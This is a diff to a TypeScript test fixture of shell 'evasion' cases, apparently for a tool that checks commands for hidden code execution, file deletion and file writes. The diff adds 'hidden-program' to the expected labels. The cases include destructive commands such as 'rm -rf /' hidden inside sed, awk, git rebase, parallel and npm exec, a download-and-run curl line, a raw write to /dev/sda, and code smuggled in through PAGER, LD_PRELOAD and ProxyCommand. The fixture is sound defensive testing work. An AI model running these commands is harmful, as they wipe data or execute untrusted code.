@@ -120,14 +120,26 @@ export const EVASIONS: readonly Case[] = [
     command: 'curl -o x https://x.io && chmod +x x && ./x',
     flows: ['1>2 code'],
   },
-  { note: 'PAGER is code', command: "PAGER='sh -c x' git log", unknown: ['environment-code'] },
+  {
+    note: 'PAGER is code',
+    command: "PAGER='sh -c x' git log",
+    unknown: ['environment-code', 'hidden-program', 'hidden-program'],
+  },
   {
     note: 'exported GIT_ variables are code',
     command: 'export GIT_SSH_COMMAND=x; git fetch',
-    unknown: ['environment-code'],
+    unknown: ['environment-code', 'hidden-program'],
   },
-  { note: 'env sets code', command: 'env LD_PRELOAD=./x.so ls', unknown: ['environment-code'] },
-  { note: 'git -c runs code', command: "git -c core.pager='sh -c x' log", unknown: ['environment-code'] },
+  {
+    note: 'env sets code',
+    command: 'env LD_PRELOAD=./x.so ls',
+    unknown: ['environment-code', 'hidden-program'],
+  },
+  {
+    note: 'git -c runs code',
+    command: "git -c core.pager='sh -c x' log",
+    unknown: ['environment-code', 'hidden-program', 'hidden-program'],
+  },
   { note: 'git rebase --exec', command: "git rebase --exec 'rm -rf /' HEAD~3", deletes: ['/'] },
   {
     note: 'inline code names a hook',
@@ -174,7 +186,7 @@ export const EVASIONS: readonly Case[] = [
   { note: 'writes by dd', command: 'dd if=a of=/dev/sda', writes: ['/dev/sda'], reads: ['/home/dev/proj/a'] },
   { note: 'writes by git', command: 'git diff --output=.bashrc', writes: ['/home/dev/proj/.bashrc'] },
   { note: 'abbreviated long option', command: 'sort --outp=.bashrc a', writes: ['/home/dev/proj/.bashrc'] },
-  { note: 'sed runs a command', command: "sed '1e rm -rf /' f", unknown: ['dynamic-code'] },
+  { note: 'sed runs a command', command: "sed '1e rm -rf /' f", unknown: ['dynamic-code', 'hidden-program'] },
   { note: 'sed runs what it substituted', command: "sed 's/a/rm/ge' f", unknown: ['dynamic-code'] },
   {
     note: 'sed writes a file',
@@ -182,7 +194,11 @@ export const EVASIONS: readonly Case[] = [
     writes: ['/home/dev/proj/.bashrc'],
     unknown: [],
   },
-  { note: 'awk runs a command', command: 'awk \'BEGIN { system("rm -rf /") }\'', unknown: ['dynamic-code'] },
+  {
+    note: 'awk runs a command',
+    command: 'awk \'BEGIN { system("rm -rf /") }\'',
+    unknown: ['dynamic-code', 'hidden-program'],
+  },
   {
     note: 'a substitution that holds the separator of its expansion',
     command: 'echo ${x/$(rm -rf /)/y}',
@@ -205,13 +221,17 @@ export const EVASIONS: readonly Case[] = [
   {
     note: 'ssh runs a proxy',
     command: "scp -o ProxyCommand='sh -c x' a h:b",
-    unknown: ['dynamic-code'],
+    unknown: ['dynamic-code', 'hidden-program', 'hidden-program'],
     hosts: ['h'],
   },
   { note: 'parallel', command: 'parallel rm -rf ::: /', deletes: ['/'] },
   { note: 'npm exec -c', command: "npm exec -c 'rm -rf /'", deletes: ['/'] },
   { note: 'a loader runs a program', command: '/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /', deletes: ['/'] },
-  { note: 'make takes another shell', command: "make SHELL='sh -c x'", unknown: ['dynamic-code'] },
+  {
+    note: 'make takes another shell',
+    command: "make SHELL='sh -c x'",
+    unknown: ['dynamic-code', 'hidden-program', 'hidden-program'],
+  },
   { note: 'a makefile from standard input', command: "make -f - <<< 'all:'", unknown: ['dynamic-code'] },
   {
     note: 'jq reads a file into a variable',
